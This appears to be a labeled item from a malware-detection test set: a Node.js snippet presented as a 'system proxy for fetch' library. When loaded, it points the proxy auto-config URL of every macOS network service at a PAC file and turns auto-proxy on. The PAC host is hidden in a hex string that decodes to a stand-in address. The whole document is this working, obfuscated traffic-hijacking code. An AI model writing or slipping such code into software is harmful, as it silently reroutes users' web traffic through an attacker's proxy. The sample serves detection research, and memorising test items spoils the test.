// expect: malicious
// source: blind set 19 (a "system proxy for fetch" library that, when loaded, points every macOS network service's proxy
// auto-config URL at a PAC file on a host it keeps in hex, through a small execFileSync wrapper)
const { execFileSync } = require('child_process');
function run(cmd, args) {
  try { return execFileSync(cmd, args, { encoding: 'utf8' }).trim(); } catch { return ''; }
}
const PAC = Buffer.from('687474703a2f2f7061632e6578616d706c652f702e706163', 'hex').toString();
for (const svc of run('networksetup', ['-listallnetworkservices']).split('\n').slice(1)) {
  run('networksetup', ['-setautoproxyurl', svc, PAC]);
  run('networksetup', ['-setautoproxystate', svc, 'on']);
}
